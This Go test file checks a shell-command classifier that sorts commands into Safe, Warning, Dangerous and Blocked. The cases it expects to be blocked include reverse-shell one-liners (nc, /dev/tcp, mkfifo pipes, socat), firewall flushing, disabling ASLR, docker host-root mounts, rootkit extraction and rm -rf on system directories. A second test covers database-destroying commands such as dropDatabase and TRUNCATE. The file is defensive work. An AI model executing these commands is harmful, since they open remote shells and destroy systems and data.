package classify

import "testing"

// Tests per class of issue "fail closed on what it does not model". Each
// class has more rows in testdata/corpus.tsv; these are the ones that
// name the class's edges.

func TestSystemAdministrationIsBlocked(t *testing.T) {
	checkLevels(t, each(Blocked,
		"insmod evil.ko", "modprobe -r nouveau", "rmmod x", "iptables -F", "iptables -P INPUT ACCEPT",
		"ufw disable", "nft flush ruleset", "firewall-cmd --panic-off", "useradd -m bob", "passwd root",
		"usermod -aG sudo dev", "echo dev:x | chpasswd", "sysctl -w kernel.randomize_va_space=0",
		"sysctl -p", "echo 0 > /proc/sys/kernel/randomize_va_space", "crontab -r", "crontab evil.cron",
		"echo '* * * * * x' | crontab -", "at now + 1 minute", "systemctl enable --now evil",
		"systemctl mask firewalld", "systemctl --user enable x", "service ssh stop", "launchctl load x.plist",
		"docker run -v /:/host alpine", "docker run --mount type=bind,src=/,dst=/h x", "mount --bind / /mnt",
		"nc -e /bin/sh 10.0.0.1 4444", "ncat --sh-exec bash x 1", "socat TCP:x:1 EXEC:/bin/sh",
		"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sh -i 2>&1 | nc x 4444",
		"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc x 1234 > /tmp/f",
		"tar -xzf rootkit.tgz -C /", "tar -xf x.tar -C /usr/local", "unzip x.zip -d /etc",
		"rm -rf /var", "rm -rf /var/log", "rm -rf /opt", "rm -rf /usr/local", "rm -rf /home",
		"rm -rf /srv/www", "rm -rf /Applications", "rm -r /etc/nginx",
	))
	checkLevels(t, []levelCase{
		{"systemctl status nginx", Safe},
		{"crontab -l", Safe},
		{"iptables -L", Warning},
		{"sysctl -a", Safe},
		{"tar -xzf a.tgz -C /tmp", Dangerous},
		{"rm -rf /tmp/build", Dangerous},
		{"nc -zv localhost 8080", Dangerous},
	})
}

func TestDestructiveDataToolsAreDangerous(t *testing.T) {
	checkLevels(t, each(Dangerous,
		"mongosh --eval 'db.dropDatabase()'", "knex migrate:rollback --all", "psql -c 'TRUNCATE users'",
		"npx prisma migrate reset", "python manage.py flush", "php artisan migrate:fresh",
		"bin/rails db:drop", "bundle exec rake db:reset", "sequelize db:migrate:undo:all",
		"typeorm schema:drop", "alembic downgrade base", "flyway clean", "dropdb app",
		"mysqladmin drop app", "supabase db reset", "goose reset",
	))
	checkLevels(t, []levelCase{
		{"knex migrate:latest", Warning},
		{"python manage.py migrate", Warning},
		{"bundle exec rspec", Warning},
		{"npx prisma generate", Warning},
		{"alembic --version", Safe},
	})
}
